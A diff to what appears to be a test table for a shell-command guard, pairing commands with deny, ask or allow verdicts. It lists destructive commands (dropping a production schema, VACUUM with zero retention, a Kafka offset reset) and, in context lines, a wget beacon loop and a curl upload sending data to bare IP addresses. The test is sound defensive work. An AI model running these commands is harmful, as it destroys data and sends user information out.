@@ -22,6 +22,27 @@ CASES: list[tuple[str, str | None]] = [
     ('echo query "DROP TABLE users" >> notes/ideas.md', None),
     ('git commit -m "sql: DELETE FROM stale rows is now done by the job"', None),
     ("rg -n --glob '*.sql' query 'DROP TABLE'", None),
+    # SQL inside a structured argument (dbt macros' --args, --vars).
+    ("dbt run-operation drop_schema_now --args '{sql: \"DROP SCHEMA marts_prod CASCADE\"}'", "deny"),
+    ("dbt run-operation exec_sql --args \"{'query': 'DELETE FROM staging.orders'}\" --target dev", "deny"),
+    ("dbt run-operation exec_sql --args \"{'query': 'select count(*) from staging.orders'}\"", None),
+    ("dbt run --select marts.finance --vars '{run_date: 2024-06-01}'", None),
+    # History purged for good (Delta/Spark VACUUM without retention) versus routine vacuum.
+    ("spark-sql -e 'VACUUM lake.events RETAIN 0 HOURS'", "deny"),
+    ("beeline -u jdbc:hive2://h:10000 -e 'VACUUM sales RETAIN 0 HOURS'", "deny"),
+    ("spark-sql -e 'VACUUM lake.events RETAIN 168 HOURS'", None),
+    # Consumer-group offsets moved forward skip messages; a dry run or a describe passes.
+    (
+        "kafka-consumer-groups --bootstrap-server broker-prod-1:9092 --group payments "
+        "--reset-offsets --to-latest --topic payments --execute",
+        "deny",
+    ),
+    (
+        "kafka-consumer-groups.sh --bootstrap-server broker-prod-1:9092 --group payments "
+        "--reset-offsets --shift-by 500 --all-topics --dry-run",
+        None,
+    ),
+    ("kafka-consumer-groups.sh --bootstrap-server broker-prod-1:9092 --describe --group payments", None),
     # Bare public addresses receiving data, versus local and named ones.
     ("nohup sh -c 'while :; do wget -q --post-data=\"u=$(whoami)\" http://203.0.113.40/c; sleep 30; done' &", "ask"),
     ("curl -s -F 'f=@build/report.tgz' http://198.51.100.23:8443/up", "ask"),
